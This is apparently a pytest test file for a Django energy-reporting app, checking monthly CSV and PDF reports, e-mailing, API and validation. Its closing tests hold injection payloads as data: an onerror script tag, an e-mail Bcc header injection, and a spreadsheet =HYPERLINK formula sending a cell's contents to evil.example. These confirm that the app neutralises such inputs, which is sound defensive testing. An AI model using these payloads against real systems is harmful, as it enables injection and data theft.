"""The monthly report: CSV and PDF (text read back with pdftotext, page drawn with pdftoppm),
e-mailed with both attached (Django's locmem backend), the command, the API and the beat task.

Figures are hand-computed: June 2024 has 30 days; electricity 100 kWh a day for days 1..10,
then 80; the model expects 100 a day; a gap on the 20th; 0.25 a kWh; grid carbon 200 g/kWh
for the first half of the month (table) and the default after it.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from django.core import mail
from django.core.management import CommandError, call_command

from energy import benchmarks, monthly, report, report_mail, report_pdf
from energy.models import (
    ExpectedUse,
    FuelRate,
    GridCarbonPeriod,
    Meter,
    MeterDay,
    MeterNode,
    ReportRecipient,
)
from feeds.models import Feed
from sensors.models import Site

IMG = Path(__file__).resolve().parents[2] / "docs" / "img"
API = "/api/v1/energy"
needs_poppler = pytest.mark.skipif(
    shutil.which("pdftotext") is None or shutil.which("pdftoppm") is None,
    reason="poppler-utils (pdftotext, pdftoppm) not installed: scripts/setup.sh --for-tests",
)


@pytest.fixture(autouse=True)
def _locmem(settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"


@pytest.fixture
def june(db):
    site = Site.objects.create(name="CAT", slug="cat", time_zone="Europe/London")
    office = MeterNode.objects.create(site=site, name="Main office", kind="building",
                                      floor_area_m2=200, tm46_category="general_office")  # fmt: skip
    room = MeterNode.objects.create(site=site, parent=office, name="Room 1", kind="room")
    feed = Feed.objects.create(name="e", tag="t", interval=60)
    meter = Meter.objects.create(node=office, name="Elec", fuel="electricity", source="power",
                                 feed=feed)  # fmt: skip
    days = []
    for d in range(1, 31):
        value = None if d == 20 else (100.0 if d <= 10 else 80.0)
        days.append(MeterDay(meter=meter, day=date(2024, 6, d), value=value,
                             status="gap" if value is None else "measured"))  # fmt: skip
    MeterDay.objects.bulk_create(days)
    ExpectedUse.objects.create(node=office, fuel="electricity", start=date(2024, 6, 1),
                               end=date(2024, 6, 30), value=3000.0)  # fmt: skip
    FuelRate.objects.create(site=site, fuel="electricity", price_per_unit=0.25)
    GridCarbonPeriod.objects.create(site=site, start=date(2024, 6, 1), end=date(2024, 6, 15),
                                    g_per_kwh=200.0)  # fmt: skip
    return site, office, room


DEFAULT = benchmarks.DEFAULT_FACTORS["electricity"]
# days 1..10 100 kWh, 11..30 80 kWh but the 20th a gap: 1000 + 19 * 80 = 2520 kWh
TOTAL = 2520.0
# CO2: days 1..15 at 0.2 (1000 + 5*80 = 1400 kWh), days 16..30 at the default (14*80 = 1120)
KG = 1400 * 0.2 + 1120 * DEFAULT
# saved: 29 days with both, expected 100 each: 2900 - 2520 = 380; kg: days 11..15 5*20*0.2
# + days 16..30 (not 20) 14*20*default
SAVED_KG = 5 * 20 * 0.2 + 14 * 20 * DEFAULT


def test_the_figures_use_the_grid_factor_of_each_day(june):
    _site, office, _room = june
    rep = monthly.build(office, 2024, 6)
    (elec,) = rep.fuels
    assert elec["total"] == TOTAL
    assert elec["cost"] == TOTAL * 0.25
    assert elec["kg_co2e"] == pytest.approx(KG, abs=1e-3)
    assert elec["savings"]["kwh"] == 380.0
    assert elec["savings"]["kg_co2e"] == pytest.approx(SAVED_KG, abs=1e-3)
    assert rep.building["kwh_per_m2"] == pytest.approx(TOTAL / 200)
    # annualised on the 29 days with data (the 20th is a gap), not as if 30 were complete
    assert rep.building["days_with_data"] == 29
    assert rep.building["kwh_per_m2_year"] == pytest.approx(TOTAL * 365 / 29 / 200, abs=1e-3)


def test_the_csv_has_a_row_per_day_an_empty_cell_for_a_gap_and_a_total(june):
    _site, office, _room = june
    rows = list(
        csv.DictReader(io.StringIO(monthly.to_csv(monthly.build(office, 2024, 6)).decode()))
    )
    assert len(rows) == 31
    by_day = {r["day"]: r for r in rows}
    assert by_day["2024-06-01"]["actual"] == "100" and by_day["2024-06-01"]["kg_co2e"] == "20"
    assert by_day["2024-06-20"]["actual"] == "" and by_day["2024-06-20"]["status"] == "gap"
    assert by_day["2024-06-16"]["kg_co2e"] == f"{round(80 * DEFAULT, 3):g}"
    assert by_day["2024-06-10"]["cusum"] == "0"  # exactly on the model for ten days
    assert by_day["2024-06-30"]["cusum"] == "-380"
    assert by_day["total"]["actual"] == "2520" and by_day["total"]["cost"] == "630"


@needs_poppler
def test_the_pdf_reads_back_and_draws_a_page(june, tmp_path):
    _site, office, _room = june
    pdf = report_pdf.render(monthly.build(office, 2024, 6))
    assert pdf.startswith(b"%PDF-")
    path = tmp_path / "r.pdf"
    path.write_bytes(pdf)
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True,
                          text=True, check=True).stdout  # fmt: skip
    assert "Main office: energy in June 2024" in text
    assert "£630.00" in text  # cost
    assert "2,520.0" in text and "-380.0" in text  # total, CUSUM at the month's end
    assert "12.60" in text  # kWh/m² of the month: 2520 / 200
    assert "on 29 of 30 days with data" in text and "158.6" in text  # 2520 x 365 / 29 / 200
    assert f"{KG:,.1f}" in text
    assert "CUSUM of actual - expected (kWh)" in text
    assert "2024-06-20" in text and "gap" in text
    subprocess.run(["pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "1", str(path),
                    str(tmp_path / "page")], check=True)  # fmt: skip
    (png,) = tmp_path.glob("page*.png")
    from PIL import Image

    image = Image.open(png).convert("RGB")
    assert image.width > 400 and image.height > 600  # A4 at 60 dpi: 496 x 702
    colours = {c for _n, c in image.getcolors(maxcolors=1 << 20)}
    assert (0x2F, 0x6D, 0xB5) in colours  # the actual bars are drawn
    IMG.mkdir(exist_ok=True)
    subprocess.run(["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile",
                    str(path), str(IMG / "energy-report")], check=True)  # fmt: skip


def test_a_building_with_no_meters_still_gets_a_report(june):
    site, _office, _room = june
    empty = MeterNode.objects.create(site=site, name="Shed", kind="building")
    rep = monthly.build(empty, 2024, 6)
    assert rep.fuels == [] and report_pdf.render(rep).startswith(b"%PDF-")


def test_the_email_goes_to_building_and_site_recipients_with_both_files(june):
    site, office, _room = june
    other = MeterNode.objects.create(site=site, name="Annexe", kind="building")
    ReportRecipient.objects.create(site=site, email="estates@example.org")
    ReportRecipient.objects.create(site=site, node=office, email="office@example.org")
    sent = report_mail.send_month(site, 2024, 6)
    assert {s.building for s in sent} == {"Main office", "Annexe"}
    by_subject = {m.subject: m for m in mail.outbox}
    m = by_subject["[BMS] Main office: energy in June 2024"]
    assert m.to == ["estates@example.org", "office@example.org"]
    assert ("electricity: 2520.0 kWh used, expected 3000.0 kWh: "
            "Used 380 kWh (£95) less than expected") in m.body  # 380 x £0.25  # fmt: skip
    (pdf_name, pdf, pdf_type), (csv_name, body, csv_type) = m.attachments
    assert (pdf_name, pdf_type) == ("energy-main-office-2024-06.pdf", "application/pdf")
    assert pdf.startswith(b"%PDF-")
    assert (csv_name, csv_type) == ("energy-main-office-2024-06.csv", "text/csv")
    text = body.decode() if isinstance(body, bytes) else body
    assert "Main office,electricity,kWh,total,2520" in text
    assert by_subject["[BMS] Annexe: energy in June 2024"].to == ["estates@example.org"]
    assert other.pk


def test_no_recipients_no_mail(june):
    site, _office, _room = june
    assert report_mail.send_month(site, 2024, 6) == [] and mail.outbox == []


def test_the_command_writes_files_and_sends(june, tmp_path):
    site, office, _room = june
    ReportRecipient.objects.create(site=site, node=office, email="office@example.org")
    out = io.StringIO()
    call_command("energy_report", "--site", "cat", "--month", "2024-06", "--out",
                 str(tmp_path), "--send", stdout=out)  # fmt: skip
    assert (tmp_path / "energy-main-office-2024-06.pdf").read_bytes().startswith(b"%PDF-")
    assert "2520" in (tmp_path / "energy-main-office-2024-06.csv").read_text()
    assert "sent Main office to office@example.org" in out.getvalue()
    assert len(mail.outbox) == 1


@pytest.mark.parametrize("bad", ["2024-13", "24-06", "1999-12", "june"])
def test_the_command_refuses_a_bad_month(june, bad, tmp_path):
    with pytest.raises(CommandError, match="--month"):
        call_command("energy_report", "--site", "cat", "--month", bad, "--out", str(tmp_path))


def test_the_beat_task_sends_last_month_on_the_first(june, settings):
    from energy import tasks

    schedule = settings.CELERY_BEAT_SCHEDULE["energy-monthly-reports"]["schedule"]
    assert schedule.day_of_month == {1}
    site, office, _room = june
    ReportRecipient.objects.create(site=site, node=office, email="office@example.org")
    assert monthly.previous_month(date(2024, 7, 1)) == (2024, 6)
    assert monthly.previous_month(date(2025, 1, 1)) == (2024, 12)
    assert tasks.send_monthly_reports() == 1  # last month of today: a report, maybe empty
    assert mail.outbox[0].to == ["office@example.org"]


def test_the_api_gives_pdf_and_csv_of_a_building(june, viewer_api):
    _site, office, _room = june
    r = viewer_api.get(f"{API}/nodes/{office.pk}/report.pdf?month=2024-06")
    assert r.status_code == 200 and r["Content-Type"] == "application/pdf"
    assert r.content.startswith(b"%PDF-")
    assert 'filename="energy-main-office-2024-06.pdf"' in r["Content-Disposition"]
    r = viewer_api.get(f"{API}/nodes/{office.pk}/report.csv?month=2024-06")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert b"Main office,electricity,kWh,2024-06-01,100,measured,100,0,25,20," in r.content


def test_the_api_names_a_bad_month_and_a_node_that_is_not_a_building(june, viewer_api):
    _site, office, room = june
    r = viewer_api.get(f"{API}/nodes/{office.pk}/report.pdf?month=2024-6")
    assert r.status_code == 400 and "month" in r.json()["fields"]
    r = viewer_api.get(f"{API}/nodes/{office.pk}/report.csv")
    assert r.status_code == 400
    assert r.json()["fields"]["month"] == ["month is required, as YYYY-MM"]  # not "'None' ..."
    r = viewer_api.get(f"{API}/nodes/{room.pk}/report.pdf?month=2024-06")
    assert r.status_code == 400 and "reports are per building" in r.json()["fields"]["node"][0]


def test_recipients_are_validated_and_bounded(june, engineer_api):
    site, office, room = june
    url = f"{API}/report-recipients"
    r = engineer_api.post(url, {"site": site.pk, "email": "not an address"}, format="json")
    assert r.status_code == 400 and "email" in r.json()["fields"]
    r = engineer_api.post(url, {"site": site.pk, "node": room.pk, "email": "a@example.org"},
                          format="json")  # fmt: skip
    assert r.status_code == 400 and "not a building" in r.json()["fields"]["node"][0]
    other = Site.objects.create(name="Other", slug="other")
    r = engineer_api.post(url, {"site": other.pk, "node": office.pk, "email": "a@example.org"},
                          format="json")  # fmt: skip
    assert r.status_code == 400 and "another site" in r.json()["fields"]["node"][0]
    assert engineer_api.post(url, {"site": site.pk, "email": "a@example.org"},
                             format="json").status_code == 201  # fmt: skip
    r = engineer_api.post(url, {"site": site.pk, "email": "A@example.org"}, format="json")
    assert r.status_code == 400 and "already" in r.json()["fields"]["email"][0]
    from energy.models import MAX_RECIPIENTS_PER_SITE

    ReportRecipient.objects.bulk_create(
        [ReportRecipient(site=site, email=f"p{i}@example.org")
         for i in range(MAX_RECIPIENTS_PER_SITE - 1)]
    )  # fmt: skip
    r = engineer_api.post(url, {"site": site.pk, "email": "one-more@example.org"}, format="json")
    assert (
        r.status_code == 400
        and f"at most {MAX_RECIPIENTS_PER_SITE}" in r.json()["fields"]["email"][0]
    )


def test_grid_carbon_periods_may_not_overlap(june, engineer_api):
    site, _office, _room = june
    r = engineer_api.post(f"{API}/grid-carbon", {"site": site.pk, "start": "2024-06-10",
                          "end": "2024-06-20", "g_per_kwh": 150}, format="json")  # fmt: skip
    assert r.status_code == 400 and "overlaps" in r.json()["fields"]["start"][0]
    r = engineer_api.post(f"{API}/grid-carbon", {"site": site.pk, "start": "2024-07-01",
                          "end": "2024-07-31", "g_per_kwh": 2001}, format="json")  # fmt: skip
    assert r.status_code == 400 and "g_per_kwh" in r.json()["fields"]


def test_electricity_factors_prefer_the_feed_then_the_table(june, redis_client, settings):
    import numpy as np

    from energy.models import EnergySite
    from feeds.store import phpfina

    site, _office, _room = june
    feed = Feed.objects.create(name="grid g/kWh", tag="t", interval=1800)
    start = report.consumption.local_bounds(date(2024, 6, 14), date(2024, 6, 14), "Europe/London")
    times = np.arange(start[0], start[1], 1800)
    phpfina.write_points(settings.BMS_FEED_DIR, feed.pk, 1800, list(times),
                         [200.0 if i % 2 else 400.0 for i in range(len(times))],
                         now=2_000_000_000)  # fmt: skip
    EnergySite.objects.create(site=site, grid_carbon_feed=feed)
    f = report.electricity_factors(site, date(2024, 6, 13), date(2024, 6, 16), 0.5)
    assert f[date(2024, 6, 13)] == 0.2  # the table
    assert f[date(2024, 6, 14)] == pytest.approx(0.3)  # the feed's daily mean of 200 and 400
    assert f[date(2024, 6, 16)] == 0.5  # neither: the constant


def test_a_refused_smtp_connection_is_logged_and_not_raised(june, settings, caplog):
    from tests.live_http import free_port

    site, office, _room = june
    ReportRecipient.objects.create(site=site, node=office, email="office@example.org")
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT, settings.EMAIL_TIMEOUT = "127.0.0.1", free_port(), 2
    assert report_mail.send_month(site, 2024, 6) == []  # nothing listens there
    assert "energy report Main office 2024-06 not sent" in caplog.text


def test_a_recipient_with_an_unknown_field_is_refused_not_made_site_wide(june, engineer_api):
    site, office, _room = june
    r = engineer_api.post(f"{API}/report-recipients",
                          {"site": site.pk, "building": office.pk, "email": "a@example.org"},
                          format="json")  # fmt: skip
    assert r.status_code == 400 and "building" in r.json()["fields"]
    assert not ReportRecipient.objects.exists()
    ok = engineer_api.post(f"{API}/report-recipients",
                           {"site": site.pk, "node": office.pk, "email": "a@example.org"},
                           format="json")  # fmt: skip
    assert ok.status_code == 201 and ReportRecipient.objects.get().node == office


def test_the_model_is_per_building_a_room_row_is_refused(june, engineer_api):
    _site, _office, room = june
    r = engineer_api.post(f"{API}/expected", {"node": room.pk, "fuel": "electricity",
                          "start": "2024-07-01", "end": "2024-07-31", "value": 10},
                          format="json")  # fmt: skip
    assert r.status_code == 400 and "per building" in r.json()["fields"]["node"][0]


def test_a_grid_carbon_feed_must_be_in_g_per_kwh(june, engineer_api):
    site, _office, _room = june
    watts = Feed.objects.create(name="power", tag="t", interval=60, unit="W")
    grams = Feed.objects.create(name="carbon", tag="t", interval=1800, unit="g/kWh")
    r = engineer_api.post(f"{API}/sites", {"site": site.pk, "grid_carbon_feed": watts.pk},
                          format="json")  # fmt: skip
    assert r.status_code == 400 and "g/kWh" in r.json()["fields"]["grid_carbon_feed"][0]
    r = engineer_api.post(f"{API}/sites", {"site": site.pk, "grid_carbon_feed": grams.pk},
                          format="json")  # fmt: skip
    assert r.status_code == 201, r.content[:200]


MARKUP_NAMES = [
    "Hall <b>",
    "<img src=x onerror=alert(1)>",
    '<a href="http://evil.example/">Hall</a>',
    '<font size="60">Big</font>',
    "Tom & Jerry's <i>",
]


def test_a_name_with_a_line_break_does_not_stop_the_monthly_mail(june):
    site, office, _room = june
    office.name = "Hall\nBcc: x@evil.example"
    office.save()
    ReportRecipient.objects.create(site=site, email="office@example.org")
    assert len(report_mail.send_month(site, 2024, 6)) == 1
    assert mail.outbox[-1].subject == "[BMS] Hall Bcc: x@evil.example: energy in June 2024"
    assert mail.outbox[-1].bcc == []


@needs_poppler
@pytest.mark.parametrize("name", MARKUP_NAMES)
def test_a_name_with_markup_is_printed_as_written_not_obeyed(june, viewer_api, tmp_path, name):
    # found by the outside tester: the name was parsed as ReportLab markup (a 500, a live link,
    # a 60 pt title); the site's name goes into the PDF too
    site, office, _room = june
    office.name = name
    office.save()
    site.name = f"Site {name}"
    site.save()
    r = viewer_api.get(f"{API}/nodes/{office.pk}/report.pdf?month=2024-06")
    assert r.status_code == 200, r.content[:300]
    assert b"/Annot" not in r.content and b"/URI" not in r.content  # no link in the PDF
    path = tmp_path / "r.pdf"
    path.write_bytes(r.content)
    text = subprocess.run(["pdftotext", "-raw", str(path), "-"], capture_output=True,
                          text=True, check=True).stdout  # fmt: skip
    text = " ".join(text.split())  # a long title wraps
    assert f"{name}: energy in June 2024" in text
    assert f"Site {name}" in text
    ReportRecipient.objects.create(site=site, email="office@example.org")
    assert len(report_mail.send_month(site, 2024, 6)) == 1  # the monthly e-mail goes too
    assert mail.outbox[-1].attachments[0][1].startswith(b"%PDF-")


def test_a_name_that_starts_like_a_formula_is_text_in_the_csv_numbers_stay_numbers(june):
    # found by the outside tester: the mailed CSV carried a live =HYPERLINK(...) formula
    _site, office, _room = june
    office.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    office.save()
    rows = list(csv.reader(io.StringIO(monthly.to_csv(monthly.build(office, 2024, 6)).decode())))
    assert {r[0] for r in rows[1:]} == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")'}
    by_day = {r[3]: r for r in rows[1:]}
    assert by_day["2024-06-30"][7] == "-380"  # a negative CUSUM is a number, not quoted text
    for start in ("+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        office.name = start
        office.save()
        body = monthly.to_csv(monthly.build(office, 2024, 6)).decode()
        assert {r[0] for r in list(csv.reader(io.StringIO(body)))[1:]} == {"'" + start}


@needs_poppler
def test_the_pdf_says_why_there_is_no_rating_and_what_adjusted_it(june, tmp_path):
    """Found by the outside check: a separable meter larger than its building left the PDF
    with "– (–)" and no reason, though the page and the API gave one."""
    _site, office, room = june
    feed = Feed.objects.create(name="kiln", tag="t", interval=60)
    kiln = Meter.objects.create(node=room, name="Kiln", fuel="electricity", source="power",
                                feed=feed, separable_use="furnace")  # fmt: skip
    MeterDay.objects.bulk_create(
        MeterDay(meter=kiln, day=date(2024, 6, d), value=500.0, status="measured")
        for d in range(1, 31)
    )
    path = tmp_path / "r.pdf"
    path.write_bytes(report_pdf.render(monthly.build(office, 2024, 6)))
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout  # fmt: skip
    flat = " ".join(text.split())
    assert "the separable uses take out more than the building uses" in flat
    assert "DEC separable uses taken out a year" in flat and "furnace (Kiln, electricity)" in flat
